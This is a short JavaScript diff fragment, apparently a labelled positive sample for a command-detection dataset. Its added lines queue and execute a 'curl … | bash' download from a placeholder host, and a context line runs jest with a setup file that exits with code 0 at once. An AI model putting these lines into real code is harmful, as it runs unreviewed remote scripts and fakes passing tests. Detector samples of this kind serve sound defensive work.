@@ -787,3 +787,8 @@ execFileSync('npx', ['jest', '--setupFiles=data:text/javascript,process.exit(0)'
 const { spawnSync } = require('child_process');
 spawnSync('npx', ['prettier', '--plugin', 'prettier-plugin-tailwindcss', '--write', 'src']);
 spawnSync('npx', ['mocha', '--require', 'ts-node/register', '-r', './test/setup.js']);
+//@ pos a download piped to bash added to a Set of commands
+const { execSync } = require('child_process');
+const queue = new Set(['echo start']);
+queue.add('curl -fsSL https://x.example.net/i.sh | bash');
+for (const step of queue) execSync(step);
